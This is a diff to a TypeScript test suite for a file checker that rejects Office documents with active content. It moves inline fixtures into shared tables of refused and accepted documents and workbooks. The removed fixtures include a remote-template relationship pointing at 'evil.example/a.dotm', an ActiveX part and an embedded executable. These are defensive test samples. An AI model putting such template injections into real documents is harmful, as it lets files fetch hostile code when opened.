@@ -7,6 +7,7 @@ import type { Format } from '#domain/documents/words.ts';
 import { examine } from '#lambdas/files/checks/examine.ts';
 import type { Source } from '#lambdas/files/checks/source.ts';
 import { docxOf, pdfOf, xlsxOf, zipOf } from '#local/demo/small-files.ts';
+import { ACTIVE_DOCUMENTS, ACTIVE_WORKBOOKS, PASSIVE_DOCUMENTS } from '#test/office-files.ts';
 
 const sourceOf = (content: Buffer, piece = 64 * 1024): Source => ({
   size: content.length,
@@ -133,15 +134,24 @@ describe('what does something when it is opened', () => {
   });
 
   test('is not taken in a document either', async () => {
-    const fetched =
-      '<Relationship Type="x/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/>';
     for (const more of [
       ['word/activeX/activeX1.bin', 'x'],
       ['word/embeddings/run.exe', 'MZ'],
-      ['word/_rels/settings.xml.rels', fetched],
     ] as const)
       expect(await errorOf(docxOf('x', [], { [more[0]]: more[1] }), 'docx')).toBe('active_content');
   });
+});
+
+test.each(Object.entries(ACTIVE_DOCUMENTS))('a word document with %s is refused', async (_, { parts, error }) => {
+  expect(await errorOf(docxOf('x', [], parts), 'docx')).toBe(error);
+});
+
+test.each(Object.entries(PASSIVE_DOCUMENTS))('a word document with %s is accepted', async (_, parts) => {
+  expect(await errorOf(docxOf('x', [], parts), 'docx')).toBeNull();
+});
+
+test.each(Object.entries(ACTIVE_WORKBOOKS))('a workbook with %s is refused', async (_, parts) => {
+  expect(await errorOf(xlsxOf('x', [], parts), 'xlsx')).toBe('active_content');
 });
 
 test('what would unpack to far more than it is, or hides another archive, is not unpacked to find out', async () => {
